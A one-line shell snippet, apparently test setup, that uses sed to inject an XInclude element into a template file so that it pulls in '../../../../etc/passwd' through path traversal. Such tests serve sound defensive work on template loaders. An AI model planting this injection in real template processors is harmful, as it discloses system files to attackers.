# a template reaching a file outside its folder through XInclude
sed -i 's|<tables xmlns="urn:kessan:template:1">|<tables xmlns="urn:kessan:template:1" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="../../../../etc/passwd" parse="text"/>|' "$TEMPLATES/tables.xml"
